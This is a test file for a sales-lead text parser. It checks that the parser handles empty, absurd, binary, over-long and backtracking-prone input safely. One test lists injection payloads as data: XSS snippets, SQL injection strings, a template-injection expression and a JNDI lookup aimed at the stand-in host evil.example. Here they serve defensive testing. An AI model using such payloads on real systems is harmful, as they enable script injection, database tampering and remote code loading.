/** Input nobody should send, and that the parser must survive without reading anything absurd into it. */
import { describe, expect, it } from "vitest";
import { emptyProfile, parseLead } from "../../src/parse/index.js";
import { MAX_LEAD_CHARS } from "../../src/parse/text.js";

const EMPTY = emptyProfile();

describe("parseLead on hostile input", () => {
  it("gives the empty profile for empty or blank text", () => {
    for (const text of ["", " ", "\n\t  \n", "\u00a0\u200b"]) {
      expect(parseLead(text)).toEqual({ profile: EMPTY, language: "en", ignored: [] });
    }
    expect(parseLead("", { language: "es" }).language).toBe("es");
  });

  it("returns a fresh empty profile every time", () => {
    const a = emptyProfile();
    a.healthConditions.push("diabetes");
    expect(emptyProfile().healthConditions).toEqual([]);
  });

  it("refuses absurd ages and amounts and says what it refused", () => {
    expect(parseLead("age 300")).toMatchObject({ profile: EMPTY, ignored: ["age 300"] });
    expect(parseLead("-5 years old").ignored).toEqual(["age -5"]);
    expect(parseLead("income -5").ignored).toEqual(["income -5"]);
    expect(parseLead("savings -$1,000").ignored).toEqual(["savings -1000"]);
    expect(parseLead("income $999,999,999,999").ignored).toEqual(["income 999999999999"]);
    expect(parseLead("has 45 kids").ignored).toEqual(["dependents 45"]);
    const { profile } = parseLead("age 300, income -5, savings -$1,000, 45 kids");
    expect(profile.age).toBeUndefined();
    expect(profile.income).toBeUndefined();
    expect(profile.savings).toBeUndefined();
    expect(profile.dependents).toBeUndefined();
  });

  it("cuts an over-long lead", () => {
    const lead = `John Smith, 67, diabetic. ${"called twice, left a voicemail, will try again next week. ".repeat(400)} smoker`;
    expect(lead.length).toBeGreaterThan(MAX_LEAD_CHARS);
    const { profile } = parseLead(lead);
    expect(profile).toMatchObject({ firstName: "John", age: 67, healthConditions: ["diabetes"] });
    // "smoker" was beyond the cut.
    expect(profile.smoker).toBeUndefined();
  });

  it("survives binary junk, control characters and emoji", () => {
    const binary = Array.from({ length: 4_000 }, (_, i) => String.fromCharCode((i * 7_919) % 65_536)).join(
      "",
    );
    for (const text of [
      binary,
      "\u0000\u0001\u0002\u001f\u007f",
      "😀👵🏽💊 72 yo 🇺🇸 diabetic 🚬",
      "\ud800\udc00\ud800 lone surrogates \udfff",
      "İİİ ﬃ ß ǅ 72 years old",
    ]) {
      const { profile } = parseLead(text);
      if (profile.age !== undefined) expect(profile.age).toBeLessThanOrEqual(110);
    }
    expect(parseLead("😀👵🏽💊 72 yo 🇺🇸 diabetic 🚬").profile).toMatchObject({
      age: 72,
      healthConditions: ["diabetes"],
    });
  });

  it("never takes a name, a state or an occupation out of markup or script", () => {
    const leads = [
      "<script>document.title='John Smith'; var age = 67;</script>",
      "<SCRIPT src=x>alert('Mary')</SCRIPT>",
      "<style>.Texas{color:red}</style>",
      "<img src=x onerror=\"alert('Robert')\">",
      "<a href=\"javascript:alert('Linda')\">click</a>",
      "&lt;script&gt;alert('James')&lt;/script&gt;",
      "Robert'); DROP TABLE Students;--",
      "' OR 1=1; -- ",
      "SELECT * FROM users WHERE name = 'Maria' AND age > 70",
      "{{constructor.constructor('alert(1)')()}}",
      "$" + "{jndi:ldap://evil.example/John}",
    ];
    for (const lead of leads) {
      const { profile } = parseLead(lead);
      expect(profile.firstName, lead).toBeUndefined();
      expect(profile.lastName, lead).toBeUndefined();
      expect(profile.occupation, lead).toBeUndefined();
      expect(profile.state, lead).toBeUndefined();
      expect(profile.age, lead).toBeUndefined();
    }
  });

  it("reads the facts around markup as usual", () => {
    const { profile } = parseLead(
      "<p><b>Linda</b>, 67, <i>widowed</i>, lives in <u>Ohio</u></p><script>x='Texas'</script>",
    );
    expect(profile).toMatchObject({ firstName: "Linda", age: 67, maritalStatus: "widowed", state: "OH" });
  });

  // Speed is measured in bench/engine.mjs; here, inputs built to make a parser backtrack must simply
  // come back (a quadratic pass would blow the test's time-out) with nothing invented from them.
  it("comes back from inputs built to make a parser backtrack, inventing nothing", () => {
    const nasty = [
      "1,".repeat(10_000),
      "1.".repeat(10_000),
      "1 ".repeat(10_000),
      "no ".repeat(6_000),
      "no diabetes, ".repeat(1_500),
      "<a".repeat(10_000),
      "<script>".repeat(2_500),
      "John ".repeat(4_000),
      "Mrs. ".repeat(4_000),
      "part a, ".repeat(2_500),
      "$".repeat(20_000),
      "9".repeat(20_000),
    ];
    for (const text of nasty) {
      const { profile } = parseLead(text);
      expect(profile.healthConditions, text.slice(0, 12)).toEqual([]);
      expect(profile.age === undefined || (profile.age >= 0 && profile.age <= 110)).toBe(true);
    }
  });
});
